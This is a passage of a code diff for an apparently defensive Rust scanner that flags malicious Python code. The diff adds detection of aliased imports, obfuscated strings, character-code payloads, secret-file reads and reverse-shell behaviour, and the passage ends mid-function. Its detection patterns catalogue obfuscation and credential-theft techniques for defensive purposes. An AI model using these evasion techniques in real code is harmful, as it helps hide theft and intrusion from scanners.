@@ -10,6 +10,17 @@ use std::sync::OnceLock;
 /// Hashed n-gram buckets are `0..(1 << HASH_BITS)`.
 pub const HASH_BITS: u32 = 15;
 
+/// Sources with up to this many distinct n-gram buckets give each bucket the value 1.
+pub const GRAM_NORM: usize = 2048;
+
+/// The value of each present n-gram bucket in a source with `buckets` of them: 1 up to
+/// [`GRAM_NORM`], then falling as `1/sqrt(buckets)`, so that a long file's many n-grams cannot
+/// pile up without bound (without it, a 3,000-line library summed hundreds of small n-gram
+/// weights into a certain verdict, and the out-of-fold threshold swung with such files).
+pub fn gram_value(buckets: usize) -> f32 {
+    (GRAM_NORM as f32 / buckets.max(GRAM_NORM) as f32).sqrt()
+}
+
 /// Encoded payloads are decoded and scanned to this depth (a blob inside a blob inside the code).
 const MAX_DEPTH: u8 = 3;
 /// At most this many bytes of decoded payload are scanned per input, across all blobs.
@@ -106,6 +117,27 @@ named_features! {
     StealExfil = "steal_exfil", "secrets or host details read, then sent out";
     InstallHookNet = "install_hook_action", "install hook that runs commands or downloads";
     Sensitive2 = "env_to_network", "environment dumped and network used";
+    SecretRead = "secret_file_read", "credential or secret file opened";
+    EnvSecrets = "env_secret_search", "environment searched for secret-named values";
+    ExecLiteral = "exec_decoded_literal", "an encoded string literal decoded and executed in one expression";
+}
+
+/// Behaviours that decide a verdict on their own (see `Model::probability`): a reverse
+/// shell, code hidden in an encoded blob, an encoded literal decoded and executed in one
+/// expression, a crypto-mining pool, browser or Discord credential decryption. None of them
+/// shows in any of the ~19,000 benign files (`PYML_FEATURE_STATS=1 scripts/train-pyml.sh`).
+pub const CERTAIN: &[F] = &[
+    F::RevShell,
+    F::Hidden,
+    F::HiddenExec,
+    F::ExecLiteral,
+    F::Stratum,
+    F::WinSteal,
+];
+
+/// The first [`CERTAIN`] behaviour `f` shows.
+pub fn certain(f: &Features) -> Option<F> {
+    CERTAIN.iter().copied().find(|c| f.named[*c as usize] > 0.0)
 }
 
 /// What [`extract`] found.
@@ -144,6 +176,10 @@ struct Acc {
     defs: u32,
     decoded_budget: usize,
     hidden: bool,
+    /// The source names the rot13 codec: its strings are also read decoded.
+    rot13: bool,
+    /// The source locates site-packages: a `.pth` file written there runs at every start.
+    site_packages: bool,
 }
 
 impl Acc {
@@ -203,6 +239,7 @@ pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
         ..Acc::default()
     };
     let (tokens, shape) = tokenize(src);
+    acc.rot13 = names_rot13(src.as_bytes());
     scan(src, &tokens, 0, &mut acc);
     let mut named = vec![0f32; N_NAMED];
     for (i, seen) in acc.at.iter().enumerate() {
@@ -226,8 +263,9 @@ pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
     ]));
     named[F::DownloadExec as usize] = combo(a.near(&[
         &[F::Fetch, F::DownloadCmd],
-        &[F::Exec, F::Chmod, F::OsSystem, F::Subprocess],
+        &[F::Exec, F::Chmod, F::OsSystem, F::Subprocess, F::DynImport],
     ]));
+    named[F::EnvSecrets as usize] = combo(a.near(&[&[F::EnvDump], &[F::SecretNames]]));
     named[F::StealExfil as usize] = combo(a.near(&[
         &[F::Sensitive, F::Metadata, F::WinSteal, F::Fingerprint],
         &[F::Post, F::ExfilService, F::Connect],
@@ -283,6 +321,7 @@ fn last_segment(name: &str) -> &str {
 
 /// Walks the tokens (of the source, or of a payload decoded from it at `depth` > 0).
 fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
+    let aliases = Aliases::of(tokens);
     let (mut line, mut pos) = (0u32, 0usize);
     for (i, t) in tokens.iter().enumerate() {
         if depth == 0 {
@@ -298,160 +337,37 @@ fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
         }
         match t.kind {
             Kind::Name => {
-                let full = t.text.as_ref();
+                let resolved = aliases.resolve(&t.text);
+                let full = resolved.as_ref();
                 let last = last_segment(full);
                 let call = next_is_call(tokens, i);
-                match last {
-                    // The builtins only: `re.compile` and `cursor.execute` are not code execution.
-                    "exec" | "eval" | "compile" | "execfile"
-                        if (full == last
-                            || full.starts_with("builtins")
-                            || full.starts_with("__builtins__"))
-                            && (call || tokens.get(i + 1).is_some_and(|n| n.kind == Kind::Str)) =>
-                    {
-                        acc.set(F::Exec);
+                name_flags(full, last, call, tokens, i, depth, acc);
+                // `getattr(os, "sys" + "tem")(…)` is a call of `os.system`.
+                if last == "getattr" && call {
+                    if let Some(target) = getattr_target(tokens, i, &aliases) {
+                        name_flags(&target, last_segment(&target), true, tokens, i, depth, acc);
                     }
-                    "__import__" | "import_module" => acc.set(F::DynImport),
-                    "system" | "popen" | "popen2" | "popen3" | "getoutput" | "getstatusoutput"
-                    | "spawnl" | "spawnlp" | "spawnv" | "spawnvp" | "startfile"
-                        if call =>
-                    {
-                        acc.set(F::OsSystem);
-                    }
-                    "Popen" | "check_output" | "check_call" | "run" | "call"
-                        if call
-                            && (last == "Popen"
-                                || last == "check_output"
-                                || last == "check_call"
-                                || full.starts_with("subprocess")
-                                || full.starts_with("sp.")) =>
-                    {
-                        acc.set(F::Subprocess)
-                    }
-                    "execv" | "execve" | "execvp" | "execvpe" | "execl" | "execle" | "execlp"
-                    | "execlpe" => acc.set(F::Execv),
-                    "dup2" | "dup" => acc.set(F::Dup2),
-                    "spawn" | "openpty" | "forkpty" if full.contains("pty") || last != "spawn" => {
-                        acc.set(F::Pty)
-                    }
-                    "socket" | "create_connection" | "socketpair" if call => {
-                        acc.set(F::Socket);
-                        if last == "create_connection" {
-                            acc.set(F::Connect);
-                        }
-                    }
-                    "connect" | "connect_ex" | "create_connection" | "sendto"
-                    | "open_connection" | "wrap_socket" => {
-                        acc.set(F::Connect);
-                        if last == "connect_ex" {
-                            acc.set(F::PortScan);
-                        }
-                    }
-                    "recv" | "recvfrom" | "recv_into" | "makefile" | "readline"
-                        if call && (last != "readline" || full.starts_with("reader")) =>
-                    {
-                        acc.set(F::Recv)
-                    }
-                    "create_subprocess_shell" | "create_subprocess_exec" => acc.set(F::Subprocess),
-                    "shell"
-                        if tokens.get(i + 1).is_some_and(|n| n.text == "=")
-                            && tokens.get(i + 2).is_some_and(|n| n.text == "True") =>
-                    {
-                        acc.set(F::ShellTrue)
-                    }
-                    "bind" | "listen" | "accept" if call => acc.set(F::Listen),
-                    "b64decode" | "decodebytes" | "decodestring" | "a85decode" | "b85decode"
-                    | "b32decode" | "b16decode" | "standard_b64decode" | "urlsafe_b64decode"
-                    | "a2b_base64" => acc.set(F::B64),
-                    "decompress" | "decompressobj" | "GzipFile" | "inflate" => {
-                        acc.set(F::Decompress)
-                    }
-                    "loads" | "load" if full.starts_with("marshal") => acc.set(F::Marshal),
-                    "loads" | "load"
-                        if full.starts_with("pickle")
-                            || full.starts_with("cPickle")
-                            || full.starts_with("dill") =>
-                    {
-                        acc.set(F::Pickle)
-                    }
-                    "fromhex" | "unhexlify" | "a2b_hex" => acc.set(F::HexDecode),
-                    "chmod" | "fchmod" => acc.set(F::Chmod),
-                    "urlopen" | "urlretrieve" | "HTTPConnection" | "HTTPSConnection"
-                    | "Request" | "PoolManager" | "urlopener" | "URLopener" | "curl" => {
-                        acc.set(F::Fetch)
-                    }
-                    "get" | "post" | "put" | "request" | "Session"
-                        if full.starts_with("requests")
-                            || full.starts_with("httpx")
-                            || full.starts_with("session") =>
-                    {
-                        acc.set(F::Fetch);
-                        if last == "post" || last == "put" {
-                            acc.set(F::Post);
-                        }
-                    }
-                    "upload_file" | "upload_fileobj" | "put_object" if call => acc.set(F::Post),
-                    "environ"
-                        if !tokens
-                            .get(i + 1)
-                            .is_some_and(|n| n.kind == Kind::Op && n.text == "[") =>
-                    {
-                        acc.set(F::EnvDump)
-                    }
-                    "items" | "copy" | "keys" | "values"
-                        if full.ends_with("environ.items")
-                            || full.ends_with("environ.copy")
-                            || full.ends_with("environ.keys")
-                            || full.ends_with("environ.values") =>
-                    {
-                        acc.set(F::EnvDump)
-                    }
-                    "gethostname" | "getuser" | "getlogin" | "node" | "uname" | "gethostbyname"
-                    | "getfqdn"
-                        if call =>
-                    {
-                        acc.set(F::Fingerprint)
-                    }
-                    "setsid" | "daemon" | "fork" if full.starts_with("os") || last == "setsid" => {
-                        acc.set(F::Daemonize)
-                    }
-                    "windll" | "VirtualAlloc" | "VirtualAllocEx" | "CreateThread"
-                    | "CreateRemoteThread" | "WriteProcessMemory" | "RtlMoveMemory" | "memmove"
-                        if full.contains("ctypes")
-                            || full.contains("kernel32")
-                            || last != "memmove" =>
-                    {
-                        acc.set(F::WinInject)
-                    }
-                    "CryptUnprotectData" | "win32crypt" => acc.set(F::WinSteal),
-                    "setup" if call => acc.set(F::SetupCall),
-                    "cmdclass" => acc.set(F::SetupHook),
-                    "__builtins__" | "builtins" | "globals" | "vars" | "getattr" | "__dict__"
-                        if depth == 0
-                            && (last == "__builtins__" || last == "globals" || call)
-                            && (last != "getattr"
-                                || tokens.get(i + 2).is_some_and(|n| {
-                                    n.kind == Kind::Name
-                                        && (n.text.contains("builtins")
-                                            || n.text == "os"
-                                            || n.text.starts_with("__import__"))
-                                })) =>
-                    {
-                        acc.set(F::BuiltinsObf);
-                    }
-                    "chr" if call => acc.chr += 1,
-                    "lambda" => acc.lambdas += 1,
-                    "remove" | "unlink"
-                        if tokens
-                            .get(i + 2)
-                            .is_some_and(|n| n.text == "__file__" || n.text == "sys.argv") =>
-                    {
-                        acc.set(F::SelfDelete)
-                    }
-                    "def" | "class" => acc.defs += 1,
-                    _ => {}
                 }
-                if is_weird_name(full) {
+                // `chr(101) + chr(120) + …` spells a string.
+                if last == "chr" && call && !follows_plus(tokens, i) {
+                    if let Some(folded) = fold(tokens, i) {
+                        string(&folded.text, 0, depth, executed_at(tokens, i), acc);
+                    }
+                }
+                // `urlopen(url, data=…)` and `Request(url, data=…)` send a body.
+                if full == "data"
+                    && tokens.get(i + 1).is_some_and(|n| n.text == "=")
+                    && acc.at[F::Fetch as usize].last() == Some(&acc.line)
+                {
+                    acc.set(F::Post);
+                }
+                if matches!(
+                    last,
+                    "getsitepackages" | "getusersitepackages" | "USER_SITE" | "get_python_lib"
+                ) {
+                    acc.site_packages = true;
+                }
+                if is_weird_name(&t.text) {
                     acc.weird += 1;
                 }
                 if depth == 0
@@ -475,25 +391,603 @@ fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
                 if matches!(t.text.as_ref(), "w" | "wb" | "w+" | "wb+" | "ab" | "a+") {
                     acc.set(F::WriteFile);
                 }
-                // The argument of exec/eval/compile (`exec("…")`, Python 2 `exec "…"`).
-                let executed = match i {
-                    0 => false,
-                    1 => is_exec_name(&tokens[0]),
-                    _ => {
-                        is_exec_name(&tokens[i - 1])
-                            || (tokens[i - 1].text == "(" && is_exec_name(&tokens[i - 2]))
+                let executed = executed_at(tokens, i);
+                string(&t.text, t.escapes, depth, executed, acc);
+                if t.text.len() >= 8 && decoded_then_executed(tokens, i) {
+                    acc.set(F::ExecLiteral);
+                }
+                // `open("/etc/shadow")`, `Path("~/.aws/credentials").read_text()`.
+                if i >= 2
+                    && tokens[i - 1].text == "("
+                    && tokens[i - 2].kind == Kind::Name
+                    && matches!(last_segment(&tokens[i - 2].text), "open" | "Path")
+                    && is_secret_file(&t.text)
+                {
+                    acc.set(F::SecretRead);
+                }
+                if acc.site_packages && t.text.ends_with(".pth") {
+                    acc.set(F::Persist);
+                }
+                // Pieces joined into one string: `"so"[::-1] + "cket"`, `"".join(["p", "t"])`.
+                if may_fold(tokens, i) && !follows_plus(tokens, i) {
+                    if let Some(folded) = fold(tokens, i) {
+                        if folded.parts > 1 || folded.reversed {
+                            string(&folded.text, 0, depth, executed_at(tokens, i), acc);
+                        }
                     }
-                };
-                string(t, depth, executed, acc);
+                }
             }
             Kind::Op => {
                 if t.text == "[" && reversed_at(tokens, i) {
                     acc.set(F::Reverse);
                 }
+                // A list of character codes: `[112, 114, 105, …]`, `bytes((105, 109, …))`.
+                if (t.text == "[" || t.text == "(") && depth < MAX_DEPTH {
+                    if let Some(text) = char_codes(tokens, i) {
+                        if acc.decoded_budget < DECODE_BUDGET {
+                            acc.chr += 1;
+                            payload(text.as_bytes(), depth, acc);
+                        }
+                    }
+                }
             }
             Kind::Number => {}
         }
     }
+}
+
+/// The flags one name sets: `full` is the dotted name (aliases resolved), `last` its last
+/// segment, `call` whether it is called; `tokens[i]` is where it stands.
+fn name_flags(
+    full: &str,
+    last: &str,
+    call: bool,
+    tokens: &[Token],
+    i: usize,
+    depth: u8,
+    acc: &mut Acc,
+) {
+    match last {
+        // The builtins only: `re.compile` and `cursor.execute` are not code execution.
+        "exec" | "eval" | "compile" | "execfile"
+            if (full == last
+                || full.starts_with("builtins")
+                || full.starts_with("__builtins__"))
+                && (call || tokens.get(i + 1).is_some_and(|n| n.kind == Kind::Str)) =>
+        {
+            acc.set(F::Exec);
+        }
+        "__import__" | "import_module" => acc.set(F::DynImport),
+        "system" | "popen" | "popen2" | "popen3" | "getoutput" | "getstatusoutput" | "spawnl"
+        | "spawnlp" | "spawnv" | "spawnvp" | "startfile"
+            if call =>
+        {
+            acc.set(F::OsSystem);
+        }
+        "Popen" | "check_output" | "check_call" | "run" | "call"
+            if call
+                && (last == "Popen"
+                    || last == "check_output"
+                    || last == "check_call"
+                    || full.starts_with("subprocess")
+                    || full.starts_with("sp.")) =>
+        {
+            acc.set(F::Subprocess)
+        }
+        "execv" | "execve" | "execvp" | "execvpe" | "execl" | "execle" | "execlp" | "execlpe" => {
+            acc.set(F::Execv)
+        }
+        "dup2" | "dup" => acc.set(F::Dup2),
+        "spawn" | "openpty" | "forkpty" if full.contains("pty") || last != "spawn" => {
+            acc.set(F::Pty)
+        }
+        "socket" | "create_connection" | "socketpair" if call => {
+            acc.set(F::Socket);
+            if last == "create_connection" {
+                acc.set(F::Connect);
+            }
+        }
+        "connect" | "connect_ex" | "create_connection" | "sendto" | "open_connection"
+        | "wrap_socket" => {
+            acc.set(F::Connect);
+            if last == "connect_ex" {
+                acc.set(F::PortScan);
+            }
+        }
+        "recv" | "recvfrom" | "recv_into" | "makefile" | "readline"
+            if call && (last != "readline" || full.starts_with("reader")) =>
+        {
+            acc.set(F::Recv)
+        }
+        "create_subprocess_shell" | "create_subprocess_exec" => acc.set(F::Subprocess),
+        "shell"
+            if tokens.get(i + 1).is_some_and(|n| n.text == "=")
+                && tokens.get(i + 2).is_some_and(|n| n.text == "True") =>
+        {
+            acc.set(F::ShellTrue)
+        }
+        "bind" | "listen" | "accept" if call => acc.set(F::Listen),
+        "b64decode" | "decodebytes" | "decodestring" | "a85decode" | "b85decode" | "b32decode"
+        | "b16decode" | "standard_b64decode" | "urlsafe_b64decode" | "a2b_base64" => {
+            acc.set(F::B64)
+        }
+        "decompress" | "decompressobj" | "GzipFile" | "inflate" => acc.set(F::Decompress),
+        "loads" | "load" if full.starts_with("marshal") => acc.set(F::Marshal),
+        "loads" | "load"
+            if full.starts_with("pickle")
+                || full.starts_with("cPickle")
+                || full.starts_with("dill") =>
+        {
+            acc.set(F::Pickle)
+        }
+        "fromhex" | "unhexlify" | "a2b_hex" => acc.set(F::HexDecode),
+        "chmod" | "fchmod" => acc.set(F::Chmod),
+        "urlopen" | "urlretrieve" | "HTTPConnection" | "HTTPSConnection" | "Request"
+        | "PoolManager" | "urlopener" | "URLopener" | "curl" => acc.set(F::Fetch),
+        "get" | "post" | "put" | "request" | "Session"
+            if full.starts_with("requests")
+                || full.starts_with("httpx")
+                || full.starts_with("session") =>
+        {
+            acc.set(F::Fetch);
+            if last == "post" || last == "put" {
+                acc.set(F::Post);
+            }
+        }
+        "upload_file" | "upload_fileobj" | "put_object" if call => acc.set(F::Post),
+        "environ"
+            if !tokens
+                .get(i + 1)
+                .is_some_and(|n| n.kind == Kind::Op && n.text == "[") =>
+        {
+            acc.set(F::EnvDump)
+        }
+        "items" | "copy" | "keys" | "values"
+            if full.ends_with("environ.items")
+                || full.ends_with("environ.copy")
+                || full.ends_with("environ.keys")
+                || full.ends_with("environ.values") =>
+        {
+            acc.set(F::EnvDump)
+        }
+        "gethostname" | "getuser" | "getlogin" | "node" | "uname" | "gethostbyname" | "getfqdn"
+            if call =>
+        {
+            acc.set(F::Fingerprint)
+        }
+        "setsid" | "daemon" | "fork" if full.starts_with("os") || last == "setsid" => {
+            acc.set(F::Daemonize)
+        }
+        "windll" | "VirtualAlloc" | "VirtualAllocEx" | "CreateThread" | "CreateRemoteThread"
+        | "WriteProcessMemory" | "RtlMoveMemory" | "memmove"
+            if full.contains("ctypes") || full.contains("kernel32") || last != "memmove" =>
+        {
+            acc.set(F::WinInject)
+        }
+        "CryptUnprotectData" | "win32crypt" => acc.set(F::WinSteal),
+        "setup" if call => acc.set(F::SetupCall),
+        "cmdclass" => acc.set(F::SetupHook),
+        "__builtins__" | "builtins" | "globals" | "vars" | "getattr" | "__dict__"
+            if depth == 0
+                && (last == "__builtins__" || last == "globals" || call)
+                && (last != "getattr"
+                    || tokens.get(i + 2).is_some_and(|n| {
+                        n.kind == Kind::Name
+                            && (n.text.contains("builtins")
+                                || n.text == "os"
+                                || n.text.starts_with("__import__"))
+                    })) =>
+        {
+            acc.set(F::BuiltinsObf);
+        }
+        "chr" if call => acc.chr += 1,
+        "lambda" => acc.lambdas += 1,
+        "remove" | "unlink"
+            if tokens
+                .get(i + 2)
+                .is_some_and(|n| n.text == "__file__" || n.text == "sys.argv") =>
+        {
+            acc.set(F::SelfDelete)
+        }
+        "def" | "class" => acc.defs += 1,
+        _ => {}
+    }
+}
+
+/// Whether the string at `tokens[i]` is the argument of exec/eval/compile (`exec("…")`,
+/// Python 2 `exec "…"`).
+fn executed_at(tokens: &[Token], i: usize) -> bool {
+    match i {
+        0 => false,
+        1 => is_exec_name(&tokens[0]),
+        _ => {
+            is_exec_name(&tokens[i - 1])
+                || (tokens[i - 1].text == "(" && is_exec_name(&tokens[i - 2]))
+        }
+    }
+}
+
+/// Whether the string at `tokens[i]` is decoded and the result executed in one expression:
+/// `exec(zlib.decompress(base64.b64decode("…")))`, `eval(codecs.decode("…", "rot13"))`.
+fn decoded_then_executed(tokens: &[Token], i: usize) -> bool {
+    let mut k = i;
+    let mut decoders = 0;
+    while k >= 2 && decoders <= 6 && tokens[k - 1].kind == Kind::Op && tokens[k - 1].text == "(" {
+        let f = &tokens[k - 2];
+        if f.kind != Kind::Name {
+            return false;
+        }
+        if is_exec_name(f) {
+            return decoders > 0;
+        }
+        let decoder = matches!(
+            last_segment(&f.text),
+            "b64decode"
+                | "b32decode"
+                | "b85decode"
+                | "a85decode"
+                | "urlsafe_b64decode"
+                | "decodebytes"
+                | "decodestring"
+                | "decompress"
+                | "unhexlify"
+                | "a2b_hex"
+                | "a2b_base64"
+                | "fromhex"
+                | "loads"
+                | "decode"
+        );
+        if !decoder {
+            return false;
+        }
+        decoders += 1;
+        k -= 2;
+    }
+    false
+}
+
+fn follows_plus(tokens: &[Token], i: usize) -> bool {
+    i > 0 && tokens[i - 1].kind == Kind::Op && tokens[i - 1].text == "+"
+}
+
+/// Modules whose names matter to the features: an alias of one of these (`import socket as
+/// S`, `from pty import spawn as go`, `s = __import__("so" + "cket")`) is read as its target.
+fn is_watched_module(name: &str) -> bool {
+    let first = name.split('.').next().unwrap_or(name);
+    matches!(
+        first,
+        "os" | "sys"
+            | "socket"
+            | "subprocess"
+            | "pty"
+            | "base64"
+            | "binascii"
+            | "zlib"
+            | "gzip"
+            | "lzma"
+            | "bz2"
+            | "marshal"
+            | "pickle"
+            | "codecs"
+            | "urllib"
+            | "urllib2"
+            | "requests"
+            | "httpx"
+            | "http"
+            | "builtins"
+            | "__builtin__"
+            | "ctypes"
+            | "importlib"
+            | "shutil"
+            | "platform"
+            | "getpass"
+            | "asyncio"
+            | "setuptools"
+            | "distutils"
+            | "exec"
+            | "eval"
+            | "compile"
+            | "__import__"
+            | "getattr"
+            | "open"
+    )
+}
+
+/// Local names bound to watched modules or functions.
+#[derive(Default)]
+struct Aliases {
+    /// (alias, what it stands for).
+    names: Vec<(String, String)>,
+    /// Bit `len % 64` is set for every alias length: most names are screened out by it.
+    lens: u64,
+}
+
+impl Aliases {
+    /// At most this many aliases are kept (a module rarely binds more than a few).
+    const MAX: usize = 256;
+
+    fn of(tokens: &[Token]) -> Aliases {
+        let mut a = Aliases::default();
+        let name_at = |k: usize| tokens.get(k).filter(|t| t.kind == Kind::Name);
+        let op_at = |k: usize, op: &str| {
+            tokens
+                .get(k)
+                .is_some_and(|t| t.kind == Kind::Op && t.text == op)
+        };
+        for (i, t) in tokens.iter().enumerate() {
+            if a.names.len() >= Self::MAX {
+                break;
+            }
+            if t.kind != Kind::Name {
+                continue;
+            }
+            match t.text.as_ref() {
+                "import" => {
+                    // `from M import a as b, c` or `import M as N, P`.
+                    let from = (i >= 2 && tokens[i - 2].text == "from")
+                        .then(|| name_at(i - 1))
+                        .flatten()
+                        .map(|m| m.text.as_ref());
+                    let mut k = i + 1;
+                    if op_at(k, "(") {
+                        k += 1;
+                    }
+                    while let Some(item) = name_at(k) {
+                        let target = match from {
+                            Some(m) => format!("{m}.{}", item.text),
+                            None => item.text.to_string(),
+                        };
+                        let (alias, next) = match name_at(k + 1) {
+                            Some(n) if n.text == "as" => match name_at(k + 2) {
+                                Some(al) => (Some(al.text.as_ref()), k + 3),
+                                None => (None, k + 2),
+                            },
+                            _ => (from.map(|_| item.text.as_ref()), k + 1),
+                        };
+                        if let Some(alias) = alias {
+                            if alias != target && is_watched_module(&target) {
+                                a.add(alias, target);
+                            }
+                        }
+                        if !op_at(next, ",") {
+                            break;
+                        }
+                        k = next + 1;
+                    }
+                }
+                // `N = __import__("M")`, `N = importlib.import_module("M")`, `N = os.system`.
+                alias if op_at(i + 1, "=") && !op_at(i.wrapping_sub(1), ".") => {
+                    let Some(value) = name_at(i + 2) else {
+                        continue;
+                    };
+                    let v = last_segment(&value.text);
+                    if (v == "__import__" || v == "import_module") && op_at(i + 3, "(") {
+                        if let Some(m) = fold(tokens, i + 4) {
+                            if is_watched_module(&m.text) {
+                                a.add(alias, m.text);
+                            }
+                        }
+                    } else if !op_at(i + 3, "(")
+                        && !op_at(i + 3, "[")
+                        && !op_at(i + 3, ".")
+                        && is_watched_module(&value.text)
+                        && value.text != alias
+                    {
+                        a.add(alias, value.text.to_string());
+                    }
+                }
+                _ => {}
+            }
+        }
+        a
+    }
+
+    fn add(&mut self, alias: &str, target: String) {
+        self.lens |= 1 << (alias.len() % 64);
+        self.names.push((alias.to_string(), target));
+    }
+
+    /// `name` with its first segment replaced by what it stands for.
+    fn resolve<'n>(&self, name: &'n str) -> std::borrow::Cow<'n, str> {
+        if self.names.is_empty() {
+            return std::borrow::Cow::Borrowed(name);
+        }
+        let (first, rest) = match name.find('.') {
+            Some(dot) => name.split_at(dot),
+            None => (name, ""),
+        };
+        if self.lens & (1 << (first.len() % 64)) == 0 {
+            return std::borrow::Cow::Borrowed(name);
+        }
+        // The latest binding wins, as in Python for straight-line code.
+        match self.names.iter().rev().find(|(a, _)| a == first) {
+            Some((_, target)) => std::borrow::Cow::Owned(format!("{target}{rest}")),
+            None => std::borrow::Cow::Borrowed(name),
+        }
+    }
+}
+
+/// `getattr(obj, "name")` at `tokens[i]`: the dotted name `obj.name`, aliases resolved.
+fn getattr_target(tokens: &[Token], i: usize, aliases: &Aliases) -> Option<String> {
+    let obj = tokens.get(i + 2).filter(|t| t.kind == Kind::Name)?;
+    if tokens.get(i + 3)?.text != "," {
+        return None;
+    }
+    let attr = fold(tokens, i + 4)?;
+    let ident = !attr.text.is_empty()
+        && attr.text.len() <= 64
+        && attr
+            .text
+            .bytes()
+            .all(|c| c.is_ascii_alphanumeric() || c == b'_');
+    ident.then(|| format!("{}.{}", aliases.resolve(&obj.text), attr.text))
+}
+
+/// A string expression spelled in pieces.
+struct Folded {
+    text: String,
+    /// Pieces joined (1 for a lone literal).
+    parts: usize,
+    /// A piece was reversed with `[::-1]`.
+    reversed: bool,
+}
+
+/// Folds the constant string expression starting at `tokens[i]`: literals, `chr(N)`,
+/// `"…"[::-1]` and `"sep".join([…])`, joined with `+`. None when `tokens[i]` starts none.
+fn fold(tokens: &[Token], i: usize) -> Option<Folded> {
+    /// Longest folded text kept.
+    const MAX: usize = 64 * 1024;
+    /// At most this many pieces are joined.
+    const MAX_PARTS: usize = 4096;
+    let mut out = Folded {
+        text: String::new(),
+        parts: 0,
+        reversed: false,
+    };
+    let mut next = fold_piece(tokens, i, &mut out)?;
+    while tokens
+        .get(next)
+        .is_some_and(|t| t.kind == Kind::Op && t.text == "+")
+    {
+        if out.text.len() > MAX || out.parts > MAX_PARTS {
+            return None;
+        }
+        let (len, parts) = (out.text.len(), out.parts);
+        match fold_piece(tokens, next + 1, &mut out) {
+            Some(n) => next = n,
+            None => {
+                out.text.truncate(len);
+                out.parts = parts;
+                break;
+            }
+        }
+    }
+    (out.text.len() <= MAX).then_some(out)
+}
+
+/// Whether the string at `tokens[i]` may start a [`fold`] of more than one piece.
+fn may_fold(tokens: &[Token], i: usize) -> bool {
+    tokens
+        .get(i + 1)
+        .is_some_and(|t| t.kind == Kind::Op && matches!(t.text.as_ref(), "+" | "." | "["))
+}
+
+/// One piece of [`fold`] at `tokens[k]`, appended to `out`; the index after it.
+fn fold_piece(tokens: &[Token], k: usize, out: &mut Folded) -> Option<usize> {
+    let t = tokens.get(k)?;
+    match t.kind {
+        Kind::Str => {
+            // `"sep".join([...])` or `"sep".join((...))`.
+            let joins = tokens.get(k + 1).is_some_and(|n| n.text == ".")
+                && tokens.get(k + 2).is_some_and(|n| n.text == "join")
+                && tokens.get(k + 3).is_some_and(|n| n.text == "(")
+                && tokens
+                    .get(k + 4)
+                    .is_some_and(|n| n.text == "[" || n.text == "(");
+            if joins {
+                let close = if tokens[k + 4].text == "[" { "]" } else { ")" };
+                let mut j = k + 5;
+                let mut first = true;
+                loop {
+                    let p = tokens.get(j)?;
+                    if p.kind == Kind::Op && p.text == close {
+                        break;
+                    }
+                    if !first {
+                        out.text.push_str(&t.text);
+                    }
+                    first = false;
+                    let s = tokens.get(j).filter(|p| p.kind == Kind::Str)?;
+                    out.text.push_str(&s.text);
+                    out.parts += 1;
+                    j += 1;
+                    match tokens.get(j) {
+                        Some(c) if c.text == "," => j += 1,
+                        Some(c) if c.text == close => {}
+                        _ => return None,
+                    }
+                }
+                if tokens.get(j + 1)?.text != ")" {
+                    return None;
+                }
+                return Some(j + 2);
+            }
+            if reversed_at(tokens, k + 1) {
+                out.text.extend(t.text.chars().rev());
+                out.parts += 1;
+                out.reversed = true;
+                return Some(k + 7);
+            }
+            out.text.push_str(&t.text);
+            out.parts += 1;
+            Some(k + 1)
+        }
+        Kind::Name if t.text == "chr" => {
+            if tokens.get(k + 1)?.text != "(" || tokens.get(k + 3)?.text != ")" {
+                return None;
+            }
+            let n = tokens.get(k + 2).filter(|n| n.kind == Kind::Number)?;
+            out.text.push(char::from_u32(parse_int(&n.text)?)?);
+            out.parts += 1;
+            Some(k + 4)
+        }
+        _ => None,
+    }
+}
+
+/// A decimal, hex, octal or binary integer literal.
+fn parse_int(s: &str) -> Option<u32> {
+    let s = s.replace('_', "");
+    let lower = s.to_ascii_lowercase();
+    if let Some(h) = lower.strip_prefix("0x") {
+        u32::from_str_radix(h, 16).ok()
+    } else if let Some(o) = lower.strip_prefix("0o") {
+        u32::from_str_radix(o, 8).ok()
+    } else if let Some(b) = lower.strip_prefix("0b") {
+        u32::from_str_radix(b, 2).ok()
+    } else {
+        lower.parse().ok()
+    }
+}
+
+/// The text spelled by a list of character codes opening at `tokens[i]` (`[` or `(`): at
+/// least 16 integers, all printable ASCII or whitespace.
+fn char_codes(tokens: &[Token], i: usize) -> Option<String> {
+    const MIN: usize = 16;
+    let close = if tokens[i].text == "[" { "]" } else { ")" };
+    let mut text = String::new();
+    let mut j = i + 1;
+    // Cheap rejection first: the list must start with a number.
+    tokens.get(j).filter(|t| t.kind == Kind::Number)?;
+    loop {
+        let t = tokens.get(j)?;
+        if t.kind == Kind::Op && t.text == close {
+            break;
+        }
+        let n = tokens.get(j).filter(|t| t.kind == Kind::Number)?;
+        let v = parse_int(&n.text)?;
+        if !(v == 9 || v == 10 || v == 13 || (32..127).contains(&v)) {
+            return None;
+        }
+        text.push(char::from_u32(v)?);
+        j += 1;
+        match tokens.get(j) {
+            Some(c) if c.text == "," => j += 1,
+            Some(c) if c.text == close => {}
+            _ => return None,
+        }
+    }
+    (text.len() >= MIN).then_some(text)
+}
+
+/// A path of a credential or secret file.
+fn is_secret_file(s: &str) -> bool {
+    let p = patterns();
+    s.ends_with("/.env")
+        || s == ".env"
+        || p.ac
+            .find_overlapping_iter(s)
+            .any(|m| p.features[m.pattern().as_usize()] == F::Sensitive)
 }
 
 /// `[::-1]` starting at token `i`.
@@ -727,6 +1221,7 @@ fn patterns() -> &'static Patterns {
                 ],
             ),
             (F::KillProc, &["pkill", "killall", "kill -9", "taskkill"]),
+            (F::HexDecode, &["rot13", "rot_13", "rot-13"]),
             (
                 F::SecretNames,
                 &[
@@ -794,12 +1289,18 @@ fn is_exec_name(t: &Token<'_>) -> bool {
         )
 }
 
-/// A string literal; `executed` when it is the argument of exec/eval/compile.
-fn string(t: &Token, depth: u8, executed: bool, acc: &mut Acc) {
-    let s = t.text.as_ref();
-    acc.escapes += t.escapes;
-    if s.is_empty() {
-        return;
+/// A string literal's value, with the `\x`-style escapes it was written with; `executed` when
+/// it is the argument of exec/eval/compile.
+fn string(s: &str, escapes: u32, depth: u8, executed: bool, acc: &mut Acc) {
+    acc.escapes += escapes;
+    // A shell named on its own: `Popen(["bash", "-i"])`, `pty.spawn("sh")`.
+    if s.len() <= 4
+        && matches!(
